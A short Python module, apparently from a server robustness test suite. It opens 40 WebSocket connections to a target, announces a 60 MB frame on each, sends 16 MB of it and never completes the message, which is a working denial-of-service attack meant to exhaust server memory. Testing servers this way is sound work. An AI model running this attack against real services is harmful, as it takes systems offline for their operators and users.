"""Many WebSockets begin a message of 60 MB and never end it."""

from __future__ import annotations

import contextlib
import struct

from support.server_attacks import Target, upgrade_request


def attack(target: Target) -> None:
    begun = b"\x81\xff" + struct.pack(">Q", 60_000_000) + bytes(4)
    with contextlib.ExitStack() as held:
        for _ in range(40):
            peer = held.enter_context(target.connect(2.0))
            with contextlib.suppress(OSError):
                peer.sendall(upgrade_request())
                peer.recv(4096)
                peer.sendall(begun + b"a" * (16 << 20))
